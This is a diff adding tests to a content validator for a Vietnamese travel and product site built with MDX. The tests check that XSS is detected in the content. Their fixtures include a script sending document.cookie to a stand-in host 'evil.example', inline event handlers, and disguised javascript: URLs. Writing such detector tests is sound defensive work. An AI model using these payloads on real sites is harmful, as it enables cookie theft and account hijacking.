@@ -210,6 +210,104 @@ Text.
     expect(found.join('\n')).not.toMatch(/coordinates|district/);
   });
 
+  describe('script and code in content', () => {
+    const file = 'destinations/vi/vuon-quoc-gia-tram-chim.mdx';
+    // `good` ends on line 20; after a blank line, the added body text starts on line 22.
+    const withBody = (body: string) => write(file, `${good}\n${body}\n`);
+
+    test('a <script> element in the body is reported with its line', async () => {
+      withBody('<script>fetch("https://evil.example/?c=" + document.cookie)</script>');
+      expect(await messages()).toEqual([
+        expect.stringContaining(
+          'destinations/vi/vuon-quoc-gia-tram-chim.mdx [locale: vi] field "body": unsafe content at line 22: a <script> element; content may not contain script',
+        ),
+      ]);
+    });
+
+    test('an inline event handler is reported, even when the MDX does not parse', async () => {
+      withBody('<img src=x onerror=alert(1)>');
+      const all = await messages();
+      expect(all).toHaveLength(2);
+      expect(all[0]).toMatch(/\[locale: vi\] field "body": broken MDX at line 22/);
+      expect(all[1]).toMatch(/\[locale: vi\] field "body": unsafe content at line 22: an inline event handler "onerror" on <img>/);
+    });
+
+    test('JSX event handlers are reported', async () => {
+      withBody('<a href="/" onClick={() => alert(1)}>Trang chủ</a>');
+      expect(await messages()).toEqual([expect.stringMatching(/field "body": unsafe content at line 22: an inline event handler "onClick" on <a>/)]);
+    });
+
+    test('javascript: links in the body are reported, however disguised', async () => {
+      for (const link of ['[Bản đồ](javascript:alert(1))', '[Bản đồ](JaVa&#09;ScRiPt:alert(1))', '[Bản đồ](&#106;avascript:alert(1))', '<a href="vbscript:x">x</a>', '![Ảnh](data:text/html,x)']) {
+        withBody(link);
+        const all = await messages();
+        expect(all, link).toHaveLength(1);
+        expect(all[0], link).toMatch(/\[locale: vi\] field "body": unsafe content at line 22: a "(javascript:|vbscript:|data:text\/html)" URL/);
+      }
+    });
+
+    test('a javascript: URL in a frontmatter URL field is reported with the field', async () => {
+      write(
+        'products/vi/tra-sen.mdx',
+        `---
+title: Trà sen
+description: Trà ướp sen.
+category: beverages
+stars: 4
+year: 2023
+producer:
+  name: HTX Sen
+  website: "java\tscript:alert(1)"
+images:
+  - src: ../../_media/pic.jpg
+    alt: Trà sen
+---
+
+Nội dung.
+`,
+      );
+      const all = (await messages()).join('\n');
+      expect(all).toMatch(/products\/vi\/tra-sen\.mdx \[locale: vi\] field "producer\.website": unsafe content: a "javascript:" URL/);
+    });
+
+    test('script in any frontmatter string is reported with the field', async () => {
+      write(file, good.replace('alt: Sếu đầu đỏ trên đồng cỏ năng', 'alt: "Sếu <img src=x onerror=alert(1)>"').replace('title: Vườn quốc gia Tràm Chim', 'title: <SCRIPT>alert(1)</SCRIPT>'));
+      const all = await messages();
+      expect(all).toContainEqual(expect.stringMatching(/\[locale: vi\] field "title": unsafe content: a <script> element/));
+      expect(all).toContainEqual(expect.stringMatching(/\[locale: vi\] field "images\[0\]\.alt": unsafe content: an inline event handler "onerror"/));
+    });
+
+    test('import/export statements and {…} expressions in an MDX body are code', async () => {
+      withBody("import Secret from '../../../src/config/site.ts';\n\n{Secret.url}");
+      const all = await messages();
+      expect(all).toHaveLength(2);
+      expect(all[0]).toMatch(/field "body": unsafe content at line 22: an import\/export statement is JavaScript; content may not contain code/);
+      expect(all[1]).toMatch(/field "body": unsafe content at line 24: a "\{…\}" expression is JavaScript/);
+    });
+
+    test('raw HTML in a .md file is checked too', async () => {
+      write('destinations/en/vuon-quoc-gia-tram-chim.md', good.replace('Nội dung **đúng**.', '<div>\n<script>alert(1)</script>\n</div>'));
+      expect(await messages()).toEqual([expect.stringMatching(/destinations\/en\/vuon-quoc-gia-tram-chim\.md \[locale: en\] field "body": unsafe content at line 21: a <script> element/)]);
+    });
+
+    test('prose about JavaScript, code samples and escaped markup pass', async () => {
+      withBody(
+        [
+          'JavaScript: trang web dùng kịch bản (script) để vẽ bản đồ; javascript:void(0) chỉ là chữ.',
+          '',
+          'Mã mẫu: `<script>alert(1)</script>` và `onerror=`.',
+          '',
+          '```html',
+          '<img src=x onerror=alert(1)>',
+          '```',
+          '',
+          'CMS ghi \\<script> và \\{ngoặc\\} như chữ thường; [trang](https://example.org/javascript/).',
+        ].join('\n'),
+      );
+      expect(await messages()).toEqual([]);
+    });
+  });
+
   test('the real demo content is valid', async () => {
     // Reads the project's content without touching `root`, which afterEach deletes.
     expect((await validateContent(path.resolve('content'))).map(formatProblem)).toEqual([]);
